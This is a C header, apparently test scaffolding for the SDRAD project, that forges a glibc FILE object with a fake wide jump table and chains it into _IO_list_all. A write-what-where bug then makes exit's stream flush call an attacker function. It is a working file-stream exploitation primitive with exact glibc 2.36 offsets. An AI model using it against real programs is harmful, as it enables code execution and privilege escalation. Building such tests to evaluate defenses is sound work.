/* forged_file.h - the FILE image a write-what-where attack links into
 * glibc's _IO_list_all (stdio_attacks.c, key0_libc_attacks.c): wide, with
 * output pending, and a fake wide jump table whose __doallocate is the
 * attacker's function, so exit's flush would call it with root rights.
 * glibc facts (2.36, x86-64): the wide jump table, struct _IO_wide_data's
 * _wide_vtable, struct _IO_jump_t's __doallocate. */
#ifndef SDRAD_E2E_FORGED_FILE_H
#define SDRAD_E2E_FORGED_FILE_H

#include <stdint.h>
#include <stdio.h>

extern const char _IO_wfile_jumps[];
extern FILE *_IO_list_all;
enum { kWideVtableWord = 0xe0 / 8, kDoallocateSlot = 13 };

/* Builds the forged FILE at `buf` (zeroed by the caller), its wide data at
 * word `wide_word` and its wide jump table at word `table_word` of the same
 * buffer, chained to `chain`. */
static inline FILE *forge_wide_file(uintptr_t *buf, unsigned wide_word, unsigned table_word, FILE *chain,
                                    const void *fn) {
  FILE *f = (FILE *)buf;
  uintptr_t *wide = buf + wide_word, *table = buf + table_word;
  f->_flags = (int)0xfbad0000u | 0x8000; /* _IO_MAGIC | _IO_USER_LOCK: no lock taken */
  f->_mode = 1;                          /* wide */
  f->_chain = chain;
  f->_wide_data = (struct _IO_wide_data *)wide;
  *(const void **)(f + 1) = _IO_wfile_jumps;
  wide[4] = 1; /* _IO_write_ptr > _IO_write_base: output pending */
  wide[kWideVtableWord] = (uintptr_t)table;
  table[kDoallocateSlot] = (uintptr_t)fn;
  return f;
}

#endif
